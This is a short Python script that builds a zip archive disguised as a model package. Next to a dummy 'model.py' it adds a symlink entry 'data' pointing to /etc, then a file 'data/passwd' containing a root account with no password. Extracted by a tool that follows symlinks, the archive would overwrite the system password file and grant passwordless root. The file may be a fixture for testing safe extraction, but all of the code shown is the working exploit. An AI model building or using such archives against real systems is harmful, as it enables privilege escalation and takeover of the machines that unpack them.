import stat
import zipfile


def build(archive):
    with zipfile.ZipFile(archive, "w") as file:
        link = zipfile.ZipInfo("data")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        file.writestr("model.py", "class Model: pass")
        file.writestr(link, "/etc")
        file.writestr("data/passwd", "root::0:0::/:/bin/sh")
